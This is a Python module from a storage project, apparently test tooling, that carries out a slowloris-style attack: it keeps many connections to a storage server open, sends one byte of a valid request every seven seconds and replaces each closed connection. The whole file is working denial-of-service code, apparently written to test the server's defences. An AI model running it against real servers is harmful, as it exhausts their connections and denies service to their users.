"""An attack on a storage server by slow first requests: ``python -m storage.slow_hellos HOST PORT COUNT``.

The attack keeps COUNT connections open. Every 7 s, it sends one byte of a valid request on each connection. It replaces
each connection that the server closes, and prints ``ready`` at the first close. At the end of standard input, it prints
the number of connections that it has opened.
"""

from __future__ import annotations

import contextlib
import errno
import select
import socket
import sys
import time

from gdrkit.storage import messages
from gdrkit.storage.control import pack_request
from gdrkit.storage.wire import FrameType, pack_control

__all__ = ["main"]

_BYTE_PERIOD_S = 7.0
_POLL_PERIOD_S = 0.05


def main(host: str, port: int, connection_count: int) -> None:
    """Attack until the end of standard input."""
    request_frame = pack_control(FrameType.CONTROL_REQUEST, pack_request(messages.ReadStatistics()), sequence=1)
    sent_bytes_by_connection: dict[socket.socket, int] = {}
    opened_count, next_byte_s, has_printed_ready = 0, 0.0, False
    while not select.select([sys.stdin], (), (), _POLL_PERIOD_S)[0]:
        poller = select.poll()
        for connection in sent_bytes_by_connection:
            poller.register(connection, select.POLLIN)
        connections_by_descriptor = {connection.fileno(): connection for connection in sent_bytes_by_connection}
        # The server sends nothing before it has a whole request, so an event means that it closed the connection.
        close_events = poller.poll(0)
        for descriptor, _events in close_events:
            connection = connections_by_descriptor[descriptor]
            with contextlib.suppress(OSError):
                connection.recv(4096)
            del sent_bytes_by_connection[connection]
            connection.close()
        while len(sent_bytes_by_connection) < connection_count:
            connection = socket.socket()
            connection.settimeout(0)
            if connection.connect_ex((host, port)) not in {0, errno.EINPROGRESS}:
                connection.close()
                break
            opened_count += 1
            # Half of the connections send a byte at once. The other connections are silent at first.
            sent_bytes_by_connection[connection] = 0
            if opened_count % 2:
                with contextlib.suppress(OSError):
                    sent_bytes_by_connection[connection] = connection.send(request_frame[:1])
        if time.monotonic() >= next_byte_s:
            next_byte_s = time.monotonic() + _BYTE_PERIOD_S
            for connection, sent_bytes in sent_bytes_by_connection.items():
                with contextlib.suppress(OSError):
                    sent_bytes_by_connection[connection] += connection.send(request_frame[sent_bytes : sent_bytes + 1])
        if not has_printed_ready and close_events:
            has_printed_ready = True
            sys.stdout.write("ready\n")
            sys.stdout.flush()
    sys.stdout.write(f"{opened_count}\n")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
